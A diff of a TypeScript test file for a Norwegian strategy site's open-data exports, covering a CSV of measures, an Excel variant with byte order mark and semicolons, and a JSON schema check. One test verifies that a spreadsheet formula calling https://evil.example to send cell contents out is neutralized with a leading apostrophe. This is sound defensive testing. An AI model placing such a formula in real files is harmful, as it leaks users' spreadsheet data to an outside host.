@@ -17,7 +17,7 @@ const content = path.join(scratch, 'content');
 function measure(id: string, yamlTitle: string): void {
   writeFileSync(
     path.join(content, 'tiltak', `${id}.md`),
-    `---\nid: ${id}\ntitle: ${yamlTitle}\ngoals: [M-1]\nresponsible: [KD]\nsectors: [barnehage]\nstart: 2025\ndeadline: 2027\nstatus: planned\n---\nTekst.\n`,
+    `---\nid: ${id}\ntitle: ${yamlTitle}\ngoals: [M-1]\nresponsible: [KD]\nsectors: [barnehage]\nstart: 2025\ndeadline: 2027\nstatus: planlagt\n---\nTekst.\n`,
   );
 }
 
@@ -40,7 +40,7 @@ describe('tiltak.csv', () => {
     const working = site.editions.find((edition) => edition.id === 'utkast')!;
     const rows = measuresCsv(working).split('\r\n');
     const row = (id: string) => rows.find((line) => line.startsWith(`${id},`));
-    const rest = ',planned,2025,2027,barnehage,KD,,M-1,,,false,nb';
+    const rest = ',planlagt,2025,2027,barnehage,KD,,M-1,,,false,nb';
     expect(row('T-20')).toBe(`T-20,"'=HYPERLINK(""https://evil.example/?q=""&A1,""klikk"")"${rest}`);
     expect(row('T-21')).toBe(`T-21,'+1${rest}`);
     expect(row('T-22')).toBe(`T-22,'-1${rest}`);
@@ -48,5 +48,43 @@ describe('tiltak.csv', () => {
     expect(row('T-24')).toBe(`T-24,'\tTab først${rest}`);
     expect(measuresCsv(working)).toContain(`\r\nT-25,"'\r=1+1"${rest}\r\n`);
     expect(row('T-26')).toBe(`T-26,Vanlig tittel - med = og +${rest}`);
+  });
+});
+
+describe('tiltak-excel.csv', () => {
+  test('starts with a UTF-8 byte order mark, separates with semicolons and quotes a cell holding one', () => {
+    const working = site.editions.find((edition) => edition.id === 'utkast')!;
+    const excel = measuresCsv(working, 'excel');
+    expect(excel.charCodeAt(0)).toBe(0xfeff);
+    const [header, ...rows] = excel.slice(1).split('\r\n');
+    expect(header).toBe('id;title;status;start;deadline;sectors;responsible;partners;goals;actionPlan;inputs;example;lang');
+    expect(rows.find((line) => line.startsWith('T-26;'))).toBe('T-26;Vanlig tittel - med = og +;planlagt;2025;2027;barnehage;KD;;M-1;;;false;nb');
+    // The plain file has no mark, and both hold the same measures.
+    expect(measuresCsv(working).charCodeAt(0)).not.toBe(0xfeff);
+    expect(rows.filter(Boolean).length).toBe(measuresCsv(working).split('\r\n').filter(Boolean).length - 1);
+  });
+});
+
+describe('strategi.schema.json', () => {
+  test('describes every field of every published document, and no internal note', async () => {
+    const { openDataJsonSchema } = await import('../src/lib/open-data-schema.ts');
+    const { editionJson } = await import('../src/lib/open-data.ts');
+    const schema = openDataJsonSchema('https://strategi.example.no/') as {
+      required: string[];
+      properties: { documents: { properties: Record<string, { items: { properties: Record<string, unknown>; required: string[] } }> } };
+    };
+    for (const edition of site.editions) {
+      const data = editionJson(edition, undefined) as Record<string, unknown> & { documents: Record<string, Record<string, unknown>[]> };
+      for (const key of schema.required) expect(data, key).toHaveProperty(key);
+      for (const [folder, docs] of Object.entries(data.documents)) {
+        const item = schema.properties.documents.properties[folder]?.items;
+        expect(item, folder).toBeDefined();
+        for (const doc of docs) {
+          for (const field of Object.keys(doc)) expect(Object.keys(item!.properties), `${folder}: ${field}`).toContain(field);
+          for (const field of item!.required) expect(doc, `${folder}: ${field}`).toHaveProperty(field);
+        }
+      }
+    }
+    expect(JSON.stringify(schema)).not.toContain('internalNote');
   });
 });
